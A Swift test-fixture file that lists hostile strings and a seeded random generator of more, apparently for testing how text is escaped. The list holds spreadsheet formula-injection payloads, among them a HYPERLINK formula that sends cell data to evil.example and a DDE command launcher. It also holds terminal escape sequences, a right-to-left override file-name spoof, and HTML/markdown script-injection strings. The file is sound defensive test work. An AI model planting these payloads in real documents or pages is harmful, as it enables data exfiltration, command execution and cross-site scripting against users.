/// Hostile and ordinary texts for the escaping properties, and a seeded generator of more.
enum TextEscapingSamples {
    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3",
        "\tTAB", "\rCR", "\u{1B}[31mred\u{1B}[0m", "\u{1B}]0;title\u{07}", "\u{9B}31m", "a\u{202E}txt.exe",
        "[click](javascript:alert(1))", "![x](http://evil.example/x.png)", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "# heading", "- item", "1. item", "---", "| a | b |", "`code`",
        "**bold** _it_ ~~del~~", "\\[not\\]", "&lt;", "line\nbreak", "a,b", "say \"hi\"", "Свидетели Иеговы",
        "", " ", "-3.5", "+12", "1e-05", "-inf", "nan", "2015-06-01", "{{x}}", "a\u{0}b", "\u{7F}",
    ]

    /// `count` strings of up to 12 characters drawn from syntax, controls, digits and letters.
    static func random(_ count: Int, seed: UInt64) -> [String] {
        let alphabet: [Character] = ["=", "+", "-", "@", "\t", "\r", "\n", "\u{1B}", "\u{9B}", "\u{7F}", "\u{202E}", "[", "]",
                                     "(", ")", "!", "*", "_", "`", "<", ">", "&", "#", "|", "~", "{", "}", "\\", ".", ",",
                                     "\"", "'", " ", "1", "5", "e", "a", "Ж", "é", ";", ":"]
        var state = seed
        func next() -> Int {
            state &+= 0x9E37_79B9_7F4A_7C15
            var z = state
            z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
            z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
            return Int(truncatingIfNeeded: (z ^ (z >> 31)) >> 1)
        }
        return (0..<count).map { _ in String((0..<(next() % 13)).map { _ in alphabet[next() % alphabet.count] }) }
    }

    static var all: [String] { hostile + random(3000, seed: 11) }
}
